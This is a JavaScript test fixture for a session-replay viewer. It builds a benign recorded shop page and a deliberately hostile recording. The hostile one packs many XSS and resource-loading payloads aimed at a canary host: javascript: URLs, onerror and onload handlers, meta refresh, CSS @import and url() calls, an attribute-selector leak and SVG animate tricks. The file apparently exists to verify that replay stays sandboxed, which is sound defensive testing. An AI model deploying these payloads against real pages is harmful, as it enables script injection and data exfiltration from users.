/**
 * Two recordings made by hand: a page whose site is gone, with the assets that were kept of it and what was lost, and a hostile one that
 * tries to load, to run and to break out by every way that recordings have. Nothing of the second may reach the site `CANARY`.
 */
import { createHash } from 'node:crypto'

const SITE = 'https://shop.planwise.example'
const CDN = 'https://cdn.planwise.example'
const CANARY = process.env.CANARY ?? 'http://canary.planwise.example'

let id = 0
const next = () => ++id
const text = (textContent) => ({ type: 3, id: next(), textContent })
const element = (tagName, attributes = {}, children = [], more = {}) => ({
  ...{ type: 2, id: next(), tagName, attributes },
  ...{ childNodes: children.map((child) => (typeof child === 'string' ? text(child) : child)) },
  ...more,
})
const svg = (tagName, attributes, children) => element(tagName, attributes, children, { isSVG: true })
const style = (_cssText) => element('style', { _cssText }, [text('')])
const documentOf = (head, body) => ({
  ...{ type: 0, id: next() },
  childNodes: [
    { type: 1, id: next(), name: 'html', publicId: '', systemId: '' },
    element('html', {}, [element('head', {}, head), element('body', {}, body)]),
  ],
})
const picture = (timestamp, href, node) => [
  { type: 4, timestamp, data: { href, width: 1280, height: 800 } },
  { type: 2, timestamp: timestamp + 1, data: { node, initialOffset: { left: 0, top: 0 } } },
]
const change = (timestamp, source, data) => ({ type: 3, timestamp, data: { source, ...data } })
const mutation = (timestamp, data) =>
  change(timestamp, 0, { adds: [], removes: [], texts: [], attributes: [], ...data })

const drawing = (colour, label) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="320" height="200"><rect width="320" height="200" rx="12" fill="${colour}"/>` +
  `<text x="24" y="110" font-size="32" font-family="sans-serif" fill="#fff">${label}</text></svg>`
const KEPT = [
  [
    `${CDN}/css/shop.css`,
    'text/css',
    '@import "base.css" screen;\n.card{background:#fff;border-radius:12px;padding:16px;box-shadow:0 1px 6px #0003}\n' +
      '.hero{height:180px;background:#dde url(../img/hero.svg) no-repeat right 24px center;border-radius:12px;padding:24px}',
  ],
  [
    `${CDN}/css/base.css`,
    'text/css',
    'body{margin:32px;font:16px sans-serif;background:#f2f4f8;color:#223}.cards{display:grid;grid-template-columns:repeat(3,1fr);gap:24px;margin-top:24px}',
  ],
  [`${CDN}/img/hero.svg`, 'image/svg+xml', drawing('#4f4fe0', 'Spring sale')],
  [`${SITE}/img/mug.svg`, 'image/svg+xml', drawing('#c2410c', 'Mug')],
  [`${SITE}/img/bag.svg`, 'image/svg+xml', drawing('#0f766e', 'Bag')],
  [
    `${SITE}/icons.svg`,
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><symbol id="cart" viewBox="0 0 24 24"><path fill="#4f4fe0" d="M2 3h3l3 12h11l3-9H7"/></symbol></svg>',
  ],
]
const digest = (content) => createHash('sha256').update(content).digest('hex')
const contents = new Map(
  KEPT.map(([, type, content]) => [digest(content), { type, content: Buffer.from(content) }]),
)

const kept = (at) => [
  ...picture(
    at,
    `${SITE}/products`,
    documentOf(
      [
        element('link', { rel: 'stylesheet', href: `${CDN}/css/shop.css` }),
        style(
          'h2{margin:8px 0}img{display:block;width:100%;height:160px;object-fit:cover;border-radius:8px}',
        ),
      ],
      [
        element('div', { class: 'hero' }, [
          element('h1', {}, ['Everything for the office']),
          svg('svg', { width: '48', height: '48' }, [svg('use', { href: `${SITE}/icons.svg#cart` })]),
          svg('svg', { width: '120', height: '24' }, [
            svg('linearGradient', { id: 'g' }, [
              svg('stop', { offset: '0', 'stop-color': '#f59e0b' }),
              svg('stop', { offset: '1', 'stop-color': '#dc2626' }),
            ]),
            svg('rect', { width: '120', height: '24', fill: `url(${SITE}/#g)` }),
          ]),
        ]),
        element('div', { class: 'cards' }, [
          element('div', { class: 'card' }, [
            element('img', { src: `${SITE}/img/mug.svg` }),
            element('h2', {}, ['Mug']),
          ]),
          element('div', { class: 'card' }, [
            element('img', {
              src: `${SITE}/img/bag.svg`,
              rr_naturalWidth: 160,
            }),
            element('h2', {}, ['Bag']),
          ]),
          element('div', { class: 'card' }, [
            element('img', { src: `${SITE}/img/lamp.png`, alt: 'Lamp' }),
            element('h2', {}, ['Lamp']),
          ]),
        ]),
      ],
    ),
  ),
  change(at + 4_000, 1, { positions: [{ x: 400, y: 300, id: 1, timeOffset: 0 }] }),
]

/** Every way that is known to make a rebuilt page load something, run something, or stop the player. */
function hostile(at) {
  const n = (() => {
    let count = 0
    return (way) => `${CANARY}/${way}-${++count}`
  })()
  const target = element('div', { id: 'target' })
  const link = element('link', { id: 'late' })
  const image = element('img', {})
  const sheet = element('style', {}, [text('b{}')])
  const plain = text('x')
  const attributes = (of, changed) => ({ id: of.id, attributes: changed })
  const css = (way) =>
    `@import "${n(`${way}-import`)}";@import url(${n(`${way}-import-url`)});@font-face{font-family:E;src:url(${n(`${way}-font`)})}` +
    `body{background:url(${n(`${way}-url`)});font-family:E}h1{background:image-set("${n(`${way}-set`)}" 1x)}` +
    `h2{cursor:url("${n(`${way}-cursor`)}"),auto;--x:"${n(`${way}-variable`)}";background:image-set(var(--x) 1x)}` +
    `input[value^="a"]{background:u\\72l(${n(`${way}-leak`)})}p::before{content:url(${n(`${way}-content`)})}` +
    `li{list-style:url(${n(`${way}-list`)})}svg{filter:url(${n(`${way}-filter`)}#f);mask:url(${n(`${way}-mask`)}#m)}`
  const run = "top.location='" + n('run') + "'"
  const node = documentOf(
    [
      element('base', { href: `${CANARY}/` }),
      element('meta', { 'http-equiv': 'refresh', content: `0;url=${n('refresh')}` }),
      element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
      ...[
        'preconnect',
        'dns-prefetch',
        'prefetch',
        'preload',
        'modulepreload',
        'icon',
        'stylesheet',
        'manifest',
        'prerender',
      ].map((rel) => element('link', { rel, href: n(rel), as: 'image', imagesrcset: n('imagesrcset') })),
      element('script', { src: n('script') }, [run]),
      element('SCRIPT', { src: n('script-upper') }, [run]),
      style(css('style')),
      style(`a{background:u/* rr_split */rl(${n('split')})}`),
      element('style', {}, ['i{background:image-set(', `"${n('joined')}" 1x)}`]),
      element('link', { rel: 'stylesheet', _cssText: css('link') }),
      sheet,
      link,
    ],
    [
      target,
      image,
      element('p', {}, [plain]),
      element('h1', {}, ['Still here']),
      element('h2', { style: `background:url('${n('inline')}')` }, ['Two']),
      element('input', { value: 'abc', autofocus: '', onfocus: run }),
      element('input', { type: 'image', src: n('input-image') }),
      element('img', {
        src: n('img'),
        onerror: run,
        srcset: `${n('srcset')} 1x, ${n('srcset')} 2x`,
        lowsrc: n('lowsrc'),
      }),
      element('IMG', { SRC: n('upper'), dynsrc: n('dynsrc'), attributionsrc: n('attribution') }),
      element('img', { src: 'x', rr_dataURL: n('rr-data-url') }),
      element('img', { src: '/logout' }),
      element('canvas', { rr_dataURL: n('canvas'), 'sj-drawing': n('drawing') }),
      element('canvas', { rr_dataURL: `javascript:${run}` }),
      element('canvas', { rr_dataURL: `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${n('canvas-svg')}'/></svg>` }), // prettier-ignore
      element('picture', {}, [element('source', { srcset: n('source') }), element('img', { alt: '' })]),
      element(
        'video',
        { src: n('video'), poster: n('poster'), autoplay: '', rr_mediaState: 'played', rr_mediaVolume: 9 },
        [element('source', { src: n('video-source') }), element('track', { src: n('track'), default: '' })],
      ),
      element('audio', { src: n('audio'), preload: 'auto' }),
      element('iframe', { src: n('iframe') }),
      element('iframe', { src: `javascript:${run}` }),
      element('iframe', { srcdoc: `<script>${run}</script><img src="${n('srcdoc')}">` }),
      element('frameset', {}, [element('frame', { src: n('frame') })]),
      element('object', { data: n('object'), classid: n('classid') }, [
        element('img', { src: n('fallback') }),
      ]),
      element('embed', { src: n('embed') }),
      element('applet', { archive: n('applet'), code: 'x' }),
      element('portal', { src: n('portal') }),
      element('form', { action: n('form'), target: '_top' }, [
        element('button', { formaction: n('formaction'), autofocus: '' }),
      ]),
      element('a', { href: `javascript:${run}`, ping: n('ping') }, ['Link']),
      element('table', { background: n('table') }, [element('td', { background: n('td') })]),
      element('blockquote', { cite: n('cite') }),
      svg('svg', { onload: run }, [
        svg('script', { href: n('svg-script') }, [run]),
        svg('image', { href: n('svg-image') }),
        svg('image', { 'xlink:href': n('svg-xlink') }),
        svg('use', { href: `${n('svg-use')}#x` }),
        svg('rect', {
          fill: `url(${n('svg-fill')}#x)`,
          style: `mask:url(${n('svg-mask')})`,
          width: '9',
          height: '9',
        }),
        svg('filter', { id: 'f' }, [svg('feImage', { href: n('fe-image') })]),
        svg('a', { href: '#' }, [svg('animate', { attributeName: 'href', to: `javascript:${run}` })]),
        svg('image', {}, [svg('set', { attributeName: 'href', to: n('svg-set') })]),
        svg('rect', {}, [
          svg('animate', { attributeName: 'fill', values: `url(${n('svg-values')});red`, dur: '1s' }),
        ]),
        svg('style', {}, [css('svg-style')]),
        svg('foreignObject', {}, [element('img', { src: n('foreign') })]),
      ]),
      element('__proto__', { __proto__: n('proto'), constructor: 'x' }),
      element('constructor', { src: n('constructor') }),
      element('bad name>', {}, ['x']),
      element('br', {}, [], { isShadowHost: true }),
      element('bad_custom', {}, [], { isCustom: true }),
      { type: 0, id: next(), childNodes: [element('img', { src: n('document') })] },
      { type: 4, id: next(), textContent: 'cdata' },
      { type: 9, id: next() },
    ],
  )
  return [
    ...picture(at, `${CANARY}/page`, node),
    mutation(at + 500, {
      attributes: [
        attributes(link, { rel: 'stylesheet', href: n('late-link') }),
        attributes(image, { src: n('late-img'), srcset: n('late-srcset'), onerror: run }),
        attributes(target, {
          style: { 'background-image': [`url(${n('late-style')})`, 'important'] },
          onclick: run,
        }),
        attributes(plain, { href: n('text-attribute') }),
      ],
      texts: [
        { id: plain.id, value: `a{background:url(${n('moved')})}` },
        { id: sheet.id, value: css('style-text') },
        { id: sheet.childNodes[0].id, value: css('sheet-text') },
      ],
      adds: [
        { parentId: target.id, nextId: null, node: element('iframe', { src: n('late-iframe') }) },
        { parentId: target.id, nextId: null, node: element('script', { src: n('late-script') }, [run]) },
        { parentId: target.id, nextId: -1, node: text(`a{background:url(${n('unlinked')})}`) },
        { parentId: sheet.id, nextId: null, node: text(`u{background:url(${n('late-text')})}`) },
        { parentId: sheet.id, nextId: null, node: { ...plain } },
        {
          parentId: target.id,
          nextId: null,
          node: { ...element('link', { rel: 'stylesheet', href: n('twice') }), id: image.id },
        },
      ],
    }),
    change(at + 600, 8, {
      id: sheet.id,
      adds: [{ rule: `h1{background:url(${n('rule')})}`, index: 0 }],
      replaceSync: css('replace'),
    }),
    change(at + 700, 15, {
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `h1{background:url(${n('adopted')})}` }] }],
    }),
    change(at + 750, 13, {
      id: sheet.id,
      index: [0],
      set: { property: 'background', value: `url(${n('declaration')})` },
    }),
    change(at + 800, 10, { family: 'E', fontSource: `url(${n('font')})`, buffer: false }),
    change(at + 850, 9, {
      id: image.id,
      type: 0,
      commands: [{ property: 'drawImage', args: [n('canvas-mutation')] }],
    }),
    change(at + 900, 4, { width: 1e9, height: -5 }),
    change(at + 950, 4, { width: 1280, height: 800 }),
    { type: 7, timestamp: at + 1_000, data: { url: n('asset-event') } },
    { type: 6, timestamp: at + 1_100, data: { plugin: 'x', payload: n('plugin') } },
    change(at + 4_000, 1, { positions: [{ x: 40, y: 30, id: 1, timeOffset: 0 }] }),
  ]
}

const HEALTH = {
  ...{
    assets: 6,
    missingAssets: 1,
    muted: 2,
    canvases: 1,
    foreignFrames: 1,
    closedRoots: 0,
    refusedChunks: 1,
  },
  ...{ losses: [{ reason: 'too-large', events: 12 }], steps: ['mousemove', 'checkout'], lastSequence: 2 },
}
export const UNTOLD = {
  ...{
    assets: 0,
    missingAssets: 0,
    muted: 0,
    canvases: 0,
    foreignFrames: 0,
    closedRoots: 0,
    refusedChunks: 0,
  },
  ...{ losses: [], steps: [], lastSequence: null },
}
const MADE = {
  'session-3': { id: 'recording-kept', make: kept, health: HEALTH, gaps: [] },
  'session-4': { id: 'recording-hostile', make: hostile, health: UNTOLD, gaps: [] },
}
const LENGTH_MS = 5_000

/** The recordings of a session that was made by hand; undefined for others. */
export function recordingsOf({ id: sessionId, startedAt }) {
  const made = MADE[sessionId]
  const iso = (later) => new Date(Date.parse(startedAt) + later).toISOString()
  return (
    made && [
      {
        ...{ id: made.id, tabId: 'tab-1', anonymousId: 'visitor-1', from: iso(0), to: iso(LENGTH_MS) },
        ...{ gaps: made.gaps, health: made.health, segments: [] },
        chunks: [
          {
            ...{ sequence: 0, from: iso(0), to: iso(LENGTH_MS), clockOffsetMs: Date.parse(startedAt) },
            ...{ snapshot: true, events: 10, bytes: 9_000 },
          },
        ],
      },
    ]
  )
}

const made = (recordingId) => Object.values(MADE).find(({ id: of }) => of === recordingId)

export const chunk = (recordingId) => made(recordingId)?.make(0)

export const assetsOf = (recordingId) =>
  recordingId === 'recording-kept'
    ? [
        ...KEPT.map(([url, type, content]) => ({
          url,
          sha256: digest(content),
          type,
          bytes: content.length,
          lost: null,
        })),
        { url: `${SITE}/img/lamp.png`, sha256: null, type: null, bytes: null, lost: 'blocked' },
      ]
    : []

export const asset = (sha256) => contents.get(sha256)
